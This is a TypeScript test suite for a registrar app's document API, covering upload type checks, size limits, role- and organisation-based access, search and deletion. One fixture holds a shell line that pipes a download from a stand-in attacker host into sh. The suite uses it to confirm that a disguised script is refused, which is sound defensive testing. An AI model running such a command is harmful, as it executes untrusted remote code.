import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
// The app first: the module graph must load from its composition root (see test/helpers/academic.ts).
import '../src/app.js';
import ExcelJS from 'exceljs';
import { makeFaculty, makeParent, makeStudent } from './helpers/academic.js';
import { type App, buildTestApp, call } from './helpers/app.js';
import { expectError, expectStatus } from './helpers/assert.js';
import { streamUpload, upload } from './helpers/documents.js';
import { makeUser, makeWorld } from './helpers/factories.js';

const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
);
const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64, 7)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');

/** `global.gc` without the command-line flag (the test runner's flags are fixed). */
function forceGc(): () => void {
  setFlagsFromString('--expose-gc');
  return runInNewContext('gc') as () => void;
}

async function files(root: string): Promise<string[]> {
  const out: string[] = [];
  const walk = async (dir: string) => {
    for (const e of await readdir(dir, { withFileTypes: true }).catch(() => [])) {
      const p = join(dir, e.name);
      if (e.isDirectory()) await walk(p);
      else out.push(p.slice(root.length + 1));
    }
  };
  await walk(root);
  return out.sort();
}

describe('documents', () => {
  let app: App;
  let filesDir: string;
  let w: Awaited<ReturnType<typeof makeWorld>>;
  let staff: Awaited<ReturnType<typeof makeUser>>;
  let a: Awaited<ReturnType<typeof makeStudent>>;
  let b: Awaited<ReturnType<typeof makeStudent>>;
  let parentA: Awaited<ReturnType<typeof makeParent>>;
  let parentB: Awaited<ReturnType<typeof makeParent>>;
  let nobody: Awaited<ReturnType<typeof makeUser>>;
  let docA: { id: string };
  before(async () => {
    filesDir = await mkdtemp(join(tmpdir(), 'registrar-docs-'));
    app = await buildTestApp({}, { filesDir });
    w = await makeWorld(app, 'university');
    staff = await makeUser(app, w.org, 'staff');
    a = await makeStudent(app, w.org, {}, { login: true });
    b = await makeStudent(app, w.org, {}, { login: true });
    parentA = await makeParent(app, w.org, [a.id]);
    parentB = await makeParent(app, w.org, [b.id]);
    nobody = await makeUser(app, w.org, null);
    const res = await upload(
      app,
      staff.token,
      { content: PDF, filename: 'transcript 2026 — Ana.pdf', type: 'application/pdf' },
      {
        title: 'Transcript',
        document_type: 'transcript',
        related_entity_type: 'student',
        related_entity_id: a.id,
        tags: 'academic, 2026',
      },
    );
    expectStatus(res, 201);
    docA = res.data.data;
  });
  after(async () => {
    await app.close();
    await rm(filesDir, { recursive: true, force: true });
  });

  describe('POST /documents/upload', () => {
    it('should store the file with its checked type and SHA-256, never exposing the storage key', async () => {
      const res = await upload(
        app,
        staff.token,
        { content: PDF, filename: 'report.pdf' },
        { title: 'Report', is_public: 'true' },
      );
      expectStatus(res, 201);
      const d = res.data.data;
      assert.equal(d.content_type, 'application/pdf');
      assert.equal(d.size, PDF.length);
      assert.equal(d.sha256, createHash('sha256').update(PDF).digest('hex'));
      assert.equal(d.is_public, true);
      assert.equal(d.organization_id, w.org.id);
      assert.ok(!/storage|documents\/20|\.tmp/i.test(res.body), res.body);
      assert.deepEqual(
        await app.deps.db
          .execute(`select count(*)::int as n from documents where id = '${d.id}'`)
          .then((r) => r.rows[0].n),
        1,
      );
      const audit = await app.deps.db.execute(
        `select action, after::text as after from audit_logs where entity_id = '${d.id}'`,
      );
      assert.equal(audit.rows[0].action, 'upload');
      assert.ok(!String(audit.rows[0].after).includes('storage'));
    });
    it('should accept the other allowed types by content: PNG, XLSX, CSV', async () => {
      expectStatus(await upload(app, a.token, { content: PNG, filename: 'scan.PNG' }), 201);
      const wb = new ExcelJS.Workbook();
      wb.addWorksheet('s').addRow(['a', 1]);
      const xlsx = Buffer.from(await wb.xlsx.writeBuffer());
      const x = await upload(app, staff.token, { content: xlsx, filename: 'marks.xlsx' });
      expectStatus(x, 201);
      assert.equal(
        x.data.data.content_type,
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      const c = await upload(app, staff.token, {
        content: Buffer.from('name,grade\nÁna,A\n'),
        filename: 'grades.csv',
      });
      expectStatus(c, 201);
      assert.equal(c.data.data.content_type, 'text/csv; charset=utf-8');
    });
    it('should refuse a shell script named evil.pdf (415), by content', async () => {
      const before = await files(filesDir);
      const res = await upload(app, staff.token, {
        content: SCRIPT,
        filename: 'evil.pdf',
        type: 'application/pdf',
      });
      expectError(res, 415, 'unsupported_media_type');
      assert.deepEqual(await files(filesDir), before);
    });
    it('should refuse a disallowed extension, a PNG named .pdf, and binary bytes named .txt (415)', async () => {
      expectError(await upload(app, staff.token, { content: SCRIPT, filename: 'run.sh' }), 415);
      expectError(await upload(app, staff.token, { content: PNG, filename: 'photo.pdf' }), 415);
      expectError(
        await upload(app, staff.token, {
          content: Buffer.from([0x68, 0x69, 0x00, 0x01]),
          filename: 'notes.txt',
        }),
        415,
      );
      expectError(
        await upload(app, staff.token, { content: Buffer.from([0xc3, 0x28, 0x41]), filename: 'bad.txt' }),
        415,
      );
      expectError(await upload(app, staff.token, { content: PDF, filename: 'x.exe.pdf.exe' }), 415);
    });
    it('should answer 400 for no file, a bad field or an unknown field, and leave no file behind', async () => {
      const before = await files(filesDir);
      expectError(await upload(app, staff.token, null, { title: 'x' }), 400);
      expectError(
        await upload(app, staff.token, { content: PDF, filename: 'a.pdf' }, { is_public: 'perhaps' }),
        400,
      );
      expectError(
        await upload(
          app,
          staff.token,
          { content: PDF, filename: 'a.pdf' },
          { related_entity_type: 'planet', related_entity_id: a.id },
        ),
        400,
      );
      expectError(
        await upload(app, staff.token, { content: PDF, filename: 'a.pdf' }, { storage_key: 'x' }),
        400,
      );
      expectError(
        await upload(
          app,
          staff.token,
          { content: PDF, filename: 'a.pdf' },
          { related_entity_type: 'student' },
        ),
        400,
      );
      expectError(
        await call(app, 'POST', '/api/v1/documents/upload', { token: staff.token, body: { title: 'json' } }),
        400,
      );
      assert.deepEqual(await files(filesDir), before);
    });
    it('should answer 401, 403 (parent) and 404 (a record out of scope)', async () => {
      expectError(await upload(app, undefined, { content: PDF, filename: 'a.pdf' }), 401);
      expectError(await upload(app, parentA.token, { content: PDF, filename: 'a.pdf' }), 403);
      const other = await makeStudent(app, w.otherOrg);
      expectError(
        await upload(
          app,
          staff.token,
          { content: PDF, filename: 'a.pdf' },
          { related_entity_type: 'student', related_entity_id: other.id },
        ),
        404,
      );
      // A student may attach only to their own record.
      expectError(
        await upload(
          app,
          b.token,
          { content: PDF, filename: 'a.pdf' },
          { related_entity_type: 'student', related_entity_id: a.id },
        ),
        404,
      );
    });
    it('should refuse an 11 MB upload with 413 while streaming, with memory growing far less than the file', async () => {
      await app.listen({ port: 0, host: '127.0.0.1' });
      const size = 11 * 1024 * 1024;
      const before = await files(filesDir);
      // Warm up the path once so lazy initialisation does not count as growth.
      await streamUpload(app, staff.token, PDF, 256 * 1024, 'warm.pdf');
      // Garbage chunks (already processed and dropped) count in arrayBuffers until a collection runs, so
      // each sample collects first: what remains is what the process retains at that moment.
      const gc = forceGc();
      gc();
      const base = process.memoryUsage();
      let peakRss = base.rss;
      let peakBuf = base.arrayBuffers;
      const timer = setInterval(() => {
        gc();
        const m = process.memoryUsage();
        peakRss = Math.max(peakRss, m.rss);
        peakBuf = Math.max(peakBuf, m.arrayBuffers);
      }, 2);
      const res = await streamUpload(app, staff.token, PDF, size, 'huge.pdf');
      clearInterval(timer);
      assert.equal(res.status, 413, res.body);
      assert.equal(JSON.parse(res.body).error.code, 'payload_too_large');
      const bufGrowth = peakBuf - base.arrayBuffers;
      const rssGrowth = peakRss - base.rss;
      assert.ok(bufGrowth < size / 8, `arrayBuffers grew ${bufGrowth} bytes for an ${size}-byte upload`);
      assert.ok(rssGrowth < size / 2, `rss grew ${rssGrowth} bytes for an ${size}-byte upload`);
      // Nothing of the refused file stays in storage (the warm-up file is a stored document).
      const left = (await files(filesDir)).filter((f) => !before.includes(f));
      assert.equal(left.length, 1, left.join(','));
      assert.ok(!left.some((f) => f.startsWith('.tmp')));
    });
  });

  describe('reading and downloading', () => {
    it('should give a document of student A to A and A’s parent, and 404 to B and B’s parent', async () => {
      for (const t of [a.token, parentA.token, staff.token, w.admin.token]) {
        expectStatus(await call(app, 'GET', `/api/v1/documents/${docA.id}`, { token: t }), 200);
        const dl = await app.inject({
          method: 'GET',
          url: `/api/v1/documents/${docA.id}/download`,
          headers: { authorization: `Bearer ${t}` },
        });
        expectStatus(dl, 200);
        assert.deepEqual(dl.rawPayload, PDF);
        assert.equal(dl.headers['content-type'], 'application/pdf');
        assert.match(
          String(dl.headers['content-disposition']),
          /^attachment; filename="transcript 2026 _ Ana\.pdf"; filename\*=UTF-8''transcript%202026%20%E2%80%94%20Ana\.pdf$/,
        );
      }
      for (const t of [b.token, parentB.token, w.otherAdmin.token]) {
        expectError(await call(app, 'GET', `/api/v1/documents/${docA.id}`, { token: t }), 404);
        expectError(await call(app, 'GET', `/api/v1/documents/${docA.id}/download`, { token: t }), 404);
      }
    });
    it('should give public documents to members of the organization only', async () => {
      const pub = (
        await upload(
          app,
          staff.token,
          { content: PDF, filename: 'rules.pdf' },
          { title: 'House rules', is_public: 'true' },
        )
      ).data.data;
      expectStatus(await call(app, 'GET', `/api/v1/documents/${pub.id}/download`, { token: b.token }), 200);
      expectStatus(await call(app, 'GET', `/api/v1/documents/${pub.id}`, { token: parentB.token }), 200);
      expectError(
        await call(app, 'GET', `/api/v1/documents/${pub.id}/download`, { token: w.otherAdmin.token }),
        404,
      );
    });
    it('GET /documents/{id}(/download) should answer 400, 401 and 403', async () => {
      expectError(await call(app, 'GET', '/api/v1/documents/nope', { token: staff.token }), 400);
      expectError(await call(app, 'GET', '/api/v1/documents/nope/download', { token: staff.token }), 400);
      expectError(await call(app, 'GET', `/api/v1/documents/${docA.id}`), 401);
      expectError(await call(app, 'GET', `/api/v1/documents/${docA.id}/download`), 401);
      expectError(await call(app, 'GET', `/api/v1/documents/${docA.id}`, { token: nobody.token }), 403);
      expectError(
        await call(app, 'GET', `/api/v1/documents/${docA.id}/download`, { token: nobody.token }),
        403,
      );
    });
    it('GET /documents should list readable documents with filters', async () => {
      const mine = await call(app, 'GET', '/api/v1/documents', {
        token: a.token,
        query: { student_id: a.id },
      });
      expectStatus(mine, 200);
      assert.deepEqual(
        mine.data.data.map((d: { id: string }) => d.id),
        [docA.id],
      );
      const byType = await call(app, 'GET', '/api/v1/documents', {
        token: staff.token,
        query: { document_type: 'transcript', tag: 'academic', user_id: staff.id },
      });
      assert.deepEqual(
        byType.data.data.map((d: { id: string }) => d.id),
        [docA.id],
      );
      const bs = await call(app, 'GET', '/api/v1/documents', { token: b.token, query: { student_id: a.id } });
      assert.equal(bs.data.meta.total, 0);
      const foreign = await call(app, 'GET', '/api/v1/documents', { token: w.otherAdmin.token });
      assert.equal(foreign.data.meta.total, 0);
      expectError(
        await call(app, 'GET', '/api/v1/documents', { token: staff.token, query: { page_size: 0 } }),
        400,
      );
      expectError(await call(app, 'GET', '/api/v1/documents'), 401);
      expectError(await call(app, 'GET', '/api/v1/documents', { token: nobody.token }), 403);
    });
    it('GET /documents/search should match title, description, file name and tags in scope', async () => {
      const s = await call(app, 'GET', '/api/v1/documents/search', {
        token: parentA.token,
        query: { q: 'TRANSCRIPT' },
      });
      expectStatus(s, 200);
      assert.deepEqual(
        s.data.data.map((d: { id: string }) => d.id),
        [docA.id],
      );
      const tag = await call(app, 'GET', '/api/v1/documents/search', {
        token: staff.token,
        query: { q: 'academic' },
      });
      assert.ok(tag.data.data.some((d: { id: string }) => d.id === docA.id));
      const none = await call(app, 'GET', '/api/v1/documents/search', {
        token: parentB.token,
        query: { q: 'transcript' },
      });
      assert.deepEqual(none.data.data, []);
      expectError(await call(app, 'GET', '/api/v1/documents/search', { token: staff.token }), 400);
      expectError(await call(app, 'GET', '/api/v1/documents/search', { query: { q: 'x' } }), 401);
      expectError(
        await call(app, 'GET', '/api/v1/documents/search', { token: nobody.token, query: { q: 'x' } }),
        403,
      );
    });
    it('GET /students/{id}/documents and /students/me/documents', async () => {
      const byParent = await call(app, 'GET', `/api/v1/students/${a.id}/documents`, { token: parentA.token });
      expectStatus(byParent, 200);
      assert.deepEqual(
        byParent.data.data.map((d: { id: string }) => d.id),
        [docA.id],
      );
      expectError(
        await call(app, 'GET', `/api/v1/students/${a.id}/documents`, { token: parentB.token }),
        404,
      );
      expectError(
        await call(app, 'GET', `/api/v1/students/${a.id}/documents`, { token: w.otherAdmin.token }),
        404,
      );
      expectError(await call(app, 'GET', '/api/v1/students/x/documents', { token: staff.token }), 400);
      expectError(await call(app, 'GET', `/api/v1/students/${a.id}/documents`), 401);
      expectError(await call(app, 'GET', `/api/v1/students/${a.id}/documents`, { token: nobody.token }), 403);
      const me = await call(app, 'GET', '/api/v1/students/me/documents', { token: a.token });
      expectStatus(me, 200);
      assert.deepEqual(
        me.data.data.map((d: { id: string }) => d.id),
        [docA.id],
      );
      const bMe = await call(app, 'GET', '/api/v1/students/me/documents', { token: b.token });
      assert.equal(bMe.data.meta.total, 0);
      expectError(
        await call(app, 'GET', '/api/v1/students/me/documents', { token: a.token, query: { page: 0 } }),
        400,
      );
      expectError(await call(app, 'GET', '/api/v1/students/me/documents'), 401);
      expectError(await call(app, 'GET', '/api/v1/students/me/documents', { token: parentA.token }), 403);
      const profileless = await makeUser(app, w.org, 'student');
      expectError(await call(app, 'GET', '/api/v1/students/me/documents', { token: profileless.token }), 404);
    });
  });

  describe('DELETE /documents/{id}', () => {
    it('should let the uploader delete and remove the stored file after commit', async () => {
      const before = await files(filesDir);
      const d = (await upload(app, a.token, { content: PDF, filename: 'mine.pdf' })).data.data;
      assert.equal((await files(filesDir)).length, before.length + 1);
      expectStatus(await call(app, 'DELETE', `/api/v1/documents/${d.id}`, { token: a.token }), 204);
      assert.deepEqual(await files(filesDir), before);
      expectError(await call(app, 'GET', `/api/v1/documents/${d.id}`, { token: a.token }), 404);
    });
    it('should answer 400, 401, 403 (a reader who is not the owner) and 404', async () => {
      const pub = (await upload(app, staff.token, { content: PDF, filename: 'p.pdf' }, { is_public: 'true' }))
        .data.data;
      const teacher = await makeFaculty(app, w.org);
      expectError(await call(app, 'DELETE', '/api/v1/documents/x', { token: staff.token }), 400);
      expectError(await call(app, 'DELETE', `/api/v1/documents/${pub.id}`), 401);
      expectError(await call(app, 'DELETE', `/api/v1/documents/${pub.id}`, { token: teacher.token }), 403);
      expectError(await call(app, 'DELETE', `/api/v1/documents/${pub.id}`, { token: parentA.token }), 403);
      expectError(await call(app, 'DELETE', `/api/v1/documents/${docA.id}`, { token: b.token }), 404);
      expectError(
        await call(app, 'DELETE', `/api/v1/documents/${pub.id}`, { token: w.otherAdmin.token }),
        404,
      );
      // The records office may delete what others uploaded.
      expectStatus(await call(app, 'DELETE', `/api/v1/documents/${pub.id}`, { token: w.admin.token }), 204);
    });
  });
});
